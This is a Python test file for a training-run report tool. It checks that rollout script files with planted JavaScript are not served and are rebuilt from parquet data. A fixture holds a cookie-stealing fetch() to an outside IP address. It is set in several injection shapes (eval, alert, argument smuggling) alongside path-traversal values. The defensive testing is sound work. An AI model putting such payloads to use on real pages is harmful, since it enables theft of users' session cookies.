"""JavaScript in a stranger's rollouts is never shown to a browser: neither served nor left where the page loads it."""

import http.client
import json
import re
import threading
from pathlib import Path

import pytest
from fake_runs import byte_level, metrics, row, save_tokenizer, write_rollouts, write_run

from command_line import dapo
from dapo.report.examined import phrases_of
from dapo.report.rollouts.chunks import make_chunks, parse_script, write_chunks
from dapo.report.rollouts.recorded import chunk_folder, read_table
from dapo.report.serve import make_server

PLANTED = 'fetch("http://198.51.100.1/" + document.cookie);\n'
SHAPES = {
    "alone": lambda _: PLANTED,
    "before": lambda text: PLANTED + text,
    "after": lambda text: text + PLANTED,
    "after, ending like ours": lambda text: text + f"({PLANTED.strip(';' + chr(10))});\n",
    "as the argument": lambda text: re.sub(r",.*", f",({PLANTED.strip(';' + chr(10))}));", text) + "\n",
    "in the name": lambda text: text.replace('dapo.put("', 'dapo.put(eval("1") + "', 1),
    "a second argument": lambda text: text[:-3] + ",alert(1));\n",
}


@pytest.fixture
def run(tmp_path: Path) -> Path:
    folder = write_run(tmp_path / "run", metrics(5), wanted=20, every=5)
    pieces = save_tokenizer(folder, byte_level())
    path = write_rollouts(folder, 5, [row(pieces, f"the answer {i}", index=i) for i in range(3)])
    write_chunks(read_table(path), chunk_folder(path), pieces)
    return folder


def scripts_of(run: Path) -> list[Path]:
    return sorted((run / "rollouts" / "step-000005").glob("*.js"))


def ask(run: Path, *paths: str) -> list[str]:
    server = make_server(run)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    try:
        said = []
        for path in paths:
            connection = http.client.HTTPConnection("127.0.0.1", server.server_port, timeout=1800)
            connection.request("GET", path)
            said.append(connection.getresponse().read().decode())
            connection.close()
        return said
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@pytest.mark.parametrize("has_parquet", [True, False])
@pytest.mark.parametrize("shape", SHAPES)
def test_watch_serves_data_only(shape, has_parquet, run):
    for path in scripts_of(run):
        path.write_text(SHAPES[shape](path.read_text()))
    if not has_parquet:
        (run / "rollouts" / "step-000005.parquet").unlink()
    for text in ask(run, "/rollouts/step-000005/index.js", "/rollouts/step-000005/000.js"):
        assert "fetch" not in text
        assert "eval" not in text
        assert "alert" not in text
        if has_parquet:
            assert parse_script(text)


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize("name", ["index.js", "000.js"])
def test_a_report_writes_planted_scripts_anew_from_parquet(shape, name, run):
    path = run / "rollouts" / "step-000005" / name
    path.write_text(SHAPES[shape](path.read_text()))
    assert dapo("report", str(run)).returncode == 0
    for script in scripts_of(run):
        assert parse_script(script.read_text())


@pytest.mark.parametrize("name", ["index.js", "000.js"])
def test_a_step_with_planted_scripts_and_no_parquet_is_left_out_and_said(name, run):
    (run / "rollouts" / "step-000005.parquet").unlink()
    (run / "rollouts" / "step-000005" / name).write_text(PLANTED)
    assert dapo("report", str(run)).returncode == 0
    shown = parse_script((run / "report" / "data.js").read_text())["runs"][0]
    assert shown["rollouts"] == []
    assert any("leaves out its step" in text for text in shown["missing"])


def change(index: dict, path: str, value: object) -> None:
    *parts, last = path.split("/")
    for part in parts:
        index = index[part]
    index[last] = value


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("groups/piece", ["../../planted", "../../planted", "../../planted"]),
        ("summary/step", "../../planted"),
        ("step", "../../planted"),
        ("step", 6),
        ("groups/id", 5),
        ("groups", []),
        ("summary/verdicts", {"a": 1}),
        ("summary/behaviour", None),
        ("phrases", 3),
    ],
)
def test_an_index_that_leads_elsewhere_or_has_another_shape_is_none(path, value, run):
    """The page builds the addresses of scripts from it."""
    file = run / "rollouts" / "step-000005" / "index.js"
    index = parse_script(file.read_text())
    change(index, path, value)
    file.write_text(f'dapo.put("step-000005/index",{json.dumps(index)});\n')
    (run / "rollouts" / "step-000005.parquet").unlink()
    for words in (["report", str(run)], ["doctor", str(run)], ["report", str(run), "--terminal"]):
        assert dapo(*words).returncode in (0, 1, 2)  # and no traceback
    assert parse_script((run / "report" / "data.js").read_text())["runs"][0]["rollouts"] == []


def test_a_second_folder_of_the_same_step_does_not_stand_for_it(run):
    """The page asks for step-000005 where an index says 5, wherever that index lay."""
    good = run / "rollouts" / "step-000005"
    made = dict(
        make_chunks(read_table(run / "rollouts" / "step-000005.parquet"), "step-5", None, phrases_of(run, None))
    )
    other = run / "rollouts" / "step-5"
    other.mkdir()
    for name, text in made.items():
        (other / f"{name}.js").write_text(text)
    (run / "rollouts" / "step-000005.parquet").unlink()
    (good / "000.js").write_text(PLANTED)
    assert dapo("report", str(run)).returncode == 0
    assert parse_script((run / "report" / "data.js").read_text())["runs"][0]["rollouts"] == []
